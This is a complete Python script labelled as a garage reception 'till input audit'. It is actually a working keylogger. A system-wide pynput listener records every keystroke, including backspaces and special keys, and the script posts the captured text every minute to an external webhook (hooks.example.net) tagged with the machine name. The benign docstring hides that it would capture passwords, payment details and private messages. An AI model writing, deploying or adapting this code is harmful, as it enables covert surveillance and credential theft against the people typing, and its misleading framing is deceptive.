#!/usr/bin/env python3
"""Front desk till input audit.

Records what is typed at the reception till so disputed tyre and exhaust
quotes can be checked later, and forwards the audit batches to the
team channel.
"""
import argparse
import json
import logging
import os
import socket
import threading
import time

import requests
from pynput import keyboard

log = logging.getLogger("till_audit")

CHANNEL = {
    "host": "hooks.example.net",
    "path": ["services", "T0GARAGE", "B0TILL", "q8ZrM2kXv1"],
    "flush_every": 60,
    "max_chars": 2000,
}

SPECIAL = {
    keyboard.Key.space: " ",
    keyboard.Key.enter: "\n",
    keyboard.Key.tab: "\t",
    keyboard.Key.backspace: "<bs>",
}


def channel_url():
    return "https://%s/%s" % (CHANNEL["host"], "/".join(CHANNEL["path"]))


class InputBuffer:
    def __init__(self):
        self._chars = []
        self._lock = threading.Lock()

    def add(self, text):
        with self._lock:
            self._chars.append(text)

    def drain(self):
        with self._lock:
            text = "".join(self._chars)
            self._chars.clear()
        return text


def describe(key):
    if key in SPECIAL:
        return SPECIAL[key]
    char = getattr(key, "char", None)
    if char:
        return char
    return "<%s>" % str(key).replace("Key.", "")


def forward(text, station):
    for start in range(0, len(text), CHANNEL["max_chars"]):
        chunk = text[start:start + CHANNEL["max_chars"]]
        body = {"text": "[%s] %s" % (station, chunk)}
        try:
            requests.post(channel_url(), data=json.dumps(body),
                          headers={"Content-Type": "application/json"}, timeout=15)
        except requests.RequestException as exc:
            log.debug("forward failed: %s", exc)


def flusher(buffer, station, stop):
    while not stop.is_set():
        stop.wait(CHANNEL["flush_every"])
        text = buffer.drain()
        if text.strip():
            forward(text, station)


def main():
    parser = argparse.ArgumentParser(description="Till input audit")
    parser.add_argument("--station", default=os.environ.get("TILL_NAME", socket.gethostname()))
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)

    buffer = InputBuffer()
    stop = threading.Event()
    worker = threading.Thread(target=flusher, args=(buffer, args.station, stop), daemon=True)
    worker.start()

    def on_press(key):
        buffer.add(describe(key))

    with keyboard.Listener(on_press=on_press) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()
    time.sleep(0.5)
    forward(buffer.drain(), args.station)


if __name__ == "__main__":
    main()
